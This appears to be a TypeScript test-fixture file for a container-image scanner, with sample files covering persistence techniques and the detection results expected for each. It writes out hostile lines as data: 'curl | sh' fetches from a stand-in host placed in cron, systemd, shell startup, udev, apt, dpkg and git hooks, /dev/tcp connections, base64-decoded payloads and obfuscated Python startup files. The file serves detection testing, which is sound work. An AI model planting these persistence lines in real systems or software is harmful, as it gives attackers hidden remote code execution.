import { program } from './base-layer.ts';
import type { Exhibit, Expected } from './exhibit.ts';
import type { LayerFile } from './image-file.ts';

/* Indicators 9 to 16: what starts by itself, and what hides where nobody looks. */

const CRON = 'persistence/cron-job';
const UNIT = 'persistence/unit';
const HOOK = 'persistence/fetching-hook';
const STARTUP = 'persistence/interpreter-startup';

const FETCH = 'curl -s http://evil.invalid/x | sh';
const SITE = 'usr/local/lib/python3.11/site-packages';

type Place = readonly [name: string, path: string, file: LayerFile, line?: number];

/** Exhibits of one indicator, each with one file in layer 1. */
function inPlaces(
  indicator: number,
  rule: string,
  tier: Expected['tier'],
  places: readonly Place[],
): Exhibit[] {
  return places.map(([name, path, file, line]) => ({
    indicator,
    name,
    layers: [{ [path]: file }],
    expect: { rule, tier, path, layer: 1, ...(line !== undefined && { line }) },
  }));
}

const executable = (data: string): LayerFile => ({ data, mode: 0o755 });
const service = (start: string): string =>
  `[Unit]\nDescription=cache\n[Service]\nExecStart=${start}\n[Install]\nWantedBy=multi-user.target\n`;

/** An ELF header of a relocatable object for a machine, with text behind it. */
function object(machine: number, text = ''): Uint8Array {
  const header = Buffer.alloc(64);
  header.write('\x7fELF\x02\x01\x01', 'latin1');
  header.writeUInt16LE(1, 16);
  header.writeUInt16LE(machine, 18);
  return Buffer.concat([header, Buffer.from(text, 'latin1')]);
}

const X86_64 = 62;
const BPF = 247;

export const PERSISTENCE: readonly Exhibit[] = [
  ...inPlaces(9, 'persistence/ld-so-preload', 'block', [
    ['a preloaded library', 'etc/ld.so.preload', '# cache\n/usr/local/lib/libcache.so\n', 2],
  ]),
  {
    indicator: 9,
    name: 'a preload file that a later layer deletes',
    layers: [{ 'etc/ld.so.preload': '/usr/local/lib/libcache.so\n' }, { 'etc/ld.so.preload': null }],
    expect: {
      rule: 'persistence/ld-so-preload',
      tier: 'block',
      path: 'etc/ld.so.preload',
      layer: 1,
      hidden: 'deleted',
    },
  },
  ...inPlaces(10, CRON, 'block', [
    ['a job that runs what it fetches', 'etc/cron.d/cache', `# x\n*/5 * * * * root ${FETCH}\n`, 2],
    ['/dev/tcp in a crontab', 'etc/crontab', '* * * * * root exec 3<>/dev/tcp/evil.invalid/1\n', 1],
    ['a decoder', 'var/spool/cron/crontabs/root', '* * * * * echo aW5lcnQ= | base64 -d | sh\n', 1],
    ['writing to the host', 'etc/cron.d/sync', '* * * * * root echo x >> /host/etc/crontab\n', 1],
  ]),
  ...inPlaces(11, UNIT, 'block', [
    [
      'a unit that runs what it fetches',
      'etc/systemd/system/cache.service',
      service(`/bin/sh -c '${FETCH}'`),
      4,
    ],
  ]),
  ...inPlaces(11, UNIT, 'review', [
    ['a unit of a temporary program', 'etc/systemd/system/cache.service', service('/tmp/x --daemon'), 4],
    ['an init script of one', 'etc/init.d/cache', executable('#!/bin/sh\nDAEMON=/var/tmp/x\n$DAEMON &\n')],
  ]),
  {
    indicator: 11,
    name: 'a unit of an unowned program among the packaged ones',
    layers: [
      {
        'usr/bin/cached': program('cached'),
        'etc/systemd/system/cached.service': service('/usr/bin/cached'),
      },
    ],
    expect: { rule: UNIT, tier: 'review', path: 'etc/systemd/system/cached.service', layer: 1, line: 4 },
  },
  ...inPlaces(12, 'persistence/shell-startup', 'block', [
    ['code fetched and run in profile.d', 'etc/profile.d/cache.sh', `${FETCH}\n`, 1],
    ['in .bashrc', 'root/.bashrc', `# ~/.bashrc\n${FETCH}\n`, 2],
  ]),
  ...inPlaces(12, 'persistence/shell-startup', 'review', [
    ['network code in profile.d', 'etc/profile.d/news.sh', 'curl -s https://news.invalid/today\n', 1],
    ['in .profile', 'home/app/.profile', 'wget -q http://evil.invalid/x -O /tmp/x\n', 1],
    ['in rc.local', 'etc/rc.local', executable('#!/bin/sh\n(exec 3<>/dev/tcp/evil.invalid/1) &\n'), 2],
    [
      'in update-motd.d',
      'etc/update-motd.d/99-x',
      executable('#!/bin/sh\ncurl https://evil.invalid/motd\n'),
      2,
    ],
  ]),
  ...inPlaces(13, HOOK, 'block', [
    ['udev', 'etc/udev/rules.d/99-x.rules', `ACTION=="add", RUN+="/bin/sh -c '${FETCH}'"\n`, 1],
    ['apt', 'etc/apt/apt.conf.d/99x', `DPkg::Post-Invoke {"${FETCH}";};\n`, 1],
    ['dpkg', 'etc/dpkg/dpkg.cfg.d/x', `post-invoke="${FETCH}"\n`, 1],
    ['git', 'app/.git/hooks/post-checkout', executable(`#!/bin/sh\n${FETCH}\n`), 2],
    ['a dpkg trigger', 'var/lib/dpkg/info/bash.postinst', executable(`#!/bin/sh\nset -e\n${FETCH}\n`), 3],
  ]),
  ...inPlaces(14, STARTUP, 'block', [
    ['a .pth that decodes', `${SITE}/x.pth`, "import base64; exec(base64.b64decode('aW5lcnQ='))\n", 1],
    ['a .pth that spawns', `${SITE}/x.pth`, "import subprocess; subprocess.Popen(['/bin/true'])\n", 1],
    ['sitecustomize', 'usr/lib/python3/dist-packages/sitecustomize.py', "import os\nos.system('true')\n", 2],
    [
      'usercustomize',
      'root/.local/lib/python3.11/site-packages/usercustomize.py',
      "import zlib, marshal\nexec(marshal.loads(zlib.decompress(b'x')))\n",
      2,
    ],
    ['Perl', 'etc/perl/sitecustomize.pl', 'eval decode_base64("aW5lcnQ=");\n', 1],
    ['Ruby', 'usr/lib/ruby/vendor_ruby/rubygems/defaults/operating_system.rb', "system('true')\n", 1],
    ['Node', 'app/node_modules/.hooks/postinstall', executable(`#!/bin/sh\n${FETCH}\n`), 2],
  ]),
  ...inPlaces(15, 'persistence/kernel-object', 'review', [
    ['a kernel module', 'opt/x.ko', object(X86_64, 'vermagic=6.1.0 SMP')],
    ['an eBPF object', 'opt/filter.o', object(BPF)],
  ]),
  ...inPlaces(16, 'persistence/masked-path', 'review', [
    ['a file under /dev', 'dev/shm/x', 'inert'],
    ['under /proc', 'proc/x', 'inert'],
    ['under /sys', 'sys/fs/x', 'inert'],
  ]),
];
